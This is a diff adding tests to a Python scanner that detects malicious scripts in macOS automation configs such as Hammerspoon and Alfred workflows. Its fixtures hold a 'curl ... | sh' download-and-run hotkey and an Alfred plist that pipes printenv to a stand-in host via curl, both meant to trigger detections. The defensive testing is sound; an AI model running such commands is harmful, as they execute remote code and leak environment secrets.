@@ -76,3 +76,24 @@ def test_hammerspoon_hs_execute_of_a_download(tmp_path: Path) -> None:
     source = 'hs.hotkey.bind({"cmd"}, "R", function()\n  hs.execute("curl -s http://203.0.113.40/r | sh", true)\nend)\n'
     errors = scan_errors(tmp_path, {"hammerspoon/init.lua": source})
     assert ("DOWNLOAD_AND_RUN", "hammerspoon/init.lua", 2) in errors
+
+
+def test_an_alfred_workflow_script_object_sending_the_environment(tmp_path: Path) -> None:
+    plist = (
+        '<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0">\n<dict>\n'
+        "  <key>bundleid</key><string>com.example.quicklook</string>\n  <key>objects</key>\n  <array><dict>\n"
+        "    <key>config</key><dict>\n      <key>script</key>\n"
+        "      <string>printenv | curl -s --data-binary @- https://wf.example.invalid/e &amp;&amp; echo ok</string>\n"
+        "    </dict>\n  </dict></array>\n</dict>\n</plist>\n"
+    )
+    errors = scan_errors(tmp_path, {"alfred/QuickLook.alfredworkflow/info.plist": plist})
+    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)
+
+
+def test_an_alfred_workflow_opening_a_search_is_quiet(tmp_path: Path) -> None:
+    plist = (
+        '<plist version="1.0"><dict><key>objects</key><array><dict><key>config</key><dict>\n'
+        '<key>script</key>\n<string>open "https://duckduckgo.com/?q={query}"</string>\n'
+        "</dict></dict></array></dict></plist>\n"
+    )
+    assert scan_errors(tmp_path, {"workflows/search/info.plist": plist}) == set()
